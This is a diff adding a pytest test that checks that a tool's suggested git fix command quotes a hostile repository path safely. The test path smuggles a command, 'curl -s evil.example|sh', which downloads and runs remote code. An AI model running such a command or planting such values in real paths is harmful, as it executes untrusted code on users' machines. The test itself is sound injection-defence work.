@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import shutil
 from pathlib import Path
 
@@ -78,3 +79,21 @@ def test_a_worktree_path_the_fix_quotes_cannot_cut_the_fix_short(make_quest, tmp
     shown = every_format(quest.root, capsys)
     assert_the_gates_fix(shown, outside_fix(quest.root, outside, "registered worktree"))
     assert str(shown["json"]).startswith("move it into the quest: `git -C ")
+
+
+def test_a_quest_path_inside_a_fixs_command_is_one_shell_word(quest_with_run, capsys) -> None:
+    """Adversary s4 break 04: a gitlink committed on a side branch at a path that holds a shell command.
+    The stop's fix names the path in a command to run; the path must stay one argument, never code."""
+    quest, _ = quest_with_run
+    root = quest.root
+    head = git(root, "rev-parse", "HEAD").stdout.strip()
+    path = "artifacts/runs/x;curl -s evil.example|sh;.json"
+    git(root, "checkout", "-q", "-b", "side")
+    git(root, "update-index", "--add", "--cacheinfo", f"160000,{head},{path}")
+    git(root, "commit", "-q", "-m", "sub", "--no-verify")
+    git(root, "checkout", "-q", "main")
+    assert main(["closure", str(root), "--format", "json"]) == 2
+    fix = json.loads(capsys.readouterr().out)["fix"]
+    commands = fix.split("`")[1::2]
+    assert commands and all(";" not in word or word == path for cmd in commands for word in shlex.split(cmd))
+    assert ["git", "rm", "--cached", path] in [shlex.split(cmd) for cmd in commands]
